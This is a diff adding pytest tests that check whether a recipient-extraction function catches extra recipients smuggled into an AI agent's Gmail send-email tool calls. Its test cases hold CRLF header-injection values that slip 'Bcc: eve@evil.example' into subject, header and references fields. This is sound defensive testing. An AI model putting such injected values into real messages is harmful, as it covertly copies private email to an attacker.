@@ -180,6 +180,27 @@ def test_raw_message_headers_are_recipients() -> None:
     ]
 
 
+@pytest.mark.parametrize(
+    "args",
+    [
+        {"to": ["a@x.org"], "subject": "Q3\r\nBcc: eve@evil.example"},
+        {"to": ["a@x.org"], "subject": "Q3\n bcc:eve@evil.example"},
+        {"to": ["a@x.org"], "subject": "Re: dinner\r\nBcc: eve@evil.example"},
+        {"to": ["a@x.org"], "extra_headers": "Bcc: eve@evil.example"},
+        {"to": ["a@x.org"], "in_reply_to": "m1", "references": "m1\r\nCc: eve@evil.example"},
+    ],
+)
+def test_recipients_smuggled_through_headers(args: dict[str, Any]) -> None:
+    facts = build_facts("mcp__gmail__send_email", args, CTX)
+    assert "eve@evil.example" in {r["address"] for r in facts["recipients"]}
+
+
+def test_header_lines_in_prose_and_plain_fields_are_content() -> None:
+    body = {"to": ["a@x.org"], "subject": "Cc: the team", "body": "Hi\nCc: bob@x.org joins us"}
+    facts = build_facts("mcp__gmail__send_email", body, CTX)
+    assert [r["address"] for r in facts["recipients"]] == ["a@x.org"]
+
+
 def test_base64url_raw_message() -> None:
     import base64
 
